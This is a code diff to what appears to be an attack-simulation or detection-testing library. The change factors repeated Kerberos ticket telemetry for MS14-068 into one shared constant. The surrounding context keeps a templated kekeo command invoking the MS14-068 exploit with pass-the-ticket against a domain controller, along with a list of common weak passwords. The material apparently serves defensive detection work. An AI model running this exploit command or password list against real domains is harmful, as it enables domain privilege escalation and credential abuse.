@@ -1,4 +1,20 @@
 import { t, v } from "../dsl";
+import type { ThenAction } from "../types";
+
+/** What the KDC sees of an MS14-068 exchange (both tools below): a PAC-less TGT, then the refused forged-PAC ticket. */
+const ms14068Tickets: readonly ThenAction[] = [
+  { id: "tgt", kind: "kerberos.tgt", host: "@dc", user: "@user", source: "@workstation", encryption: "0x17" },
+  {
+    id: "forged",
+    kind: "kerberos.tgs",
+    host: "@dc",
+    user: "@user",
+    service: "krbtgt",
+    source: "@workstation",
+    encryption: "0x17",
+    status: "0xf",
+  },
+];
 
 /** Credential access: the dumping and theft tooling of real intrusions. (continued) */
 export const credentialAccessB = [
@@ -278,26 +294,7 @@ export const credentialAccessB = [
           {
             cmd: '{{tools}}\\kekeo.exe "exploit::ms14068 /domain:{{dns}} /user:{{user}} /password:{{$pw}} /ptt" exit',
             net: [["@dc", 88]],
-            then: [
-              {
-                id: "tgt",
-                kind: "kerberos.tgt",
-                host: "@dc",
-                user: "@user",
-                source: "@workstation",
-                encryption: "0x17",
-              },
-              {
-                id: "forged",
-                kind: "kerberos.tgs",
-                host: "@dc",
-                user: "@user",
-                service: "krbtgt",
-                source: "@workstation",
-                encryption: "0x17",
-                status: "0xf",
-              },
-            ],
+            then: ms14068Tickets,
           },
         ],
         { vars: { pw: "{{Summer2024!|Welcome1!|P@ssw0rd123}}" } },
@@ -314,26 +311,7 @@ export const credentialAccessB = [
               ["@dc", 445],
               ["@dc", 88],
             ],
-            then: [
-              {
-                id: "tgt",
-                kind: "kerberos.tgt",
-                host: "@dc",
-                user: "@user",
-                source: "@workstation",
-                encryption: "0x17",
-              },
-              {
-                id: "forged",
-                kind: "kerberos.tgs",
-                host: "@dc",
-                user: "@user",
-                service: "krbtgt",
-                source: "@workstation",
-                encryption: "0x17",
-                status: "0xf",
-              },
-            ],
+            then: ms14068Tickets,
           },
         ],
         { vars: { pw: "{{Summer2024!|Welcome1!|P@ssw0rd123}}" } },
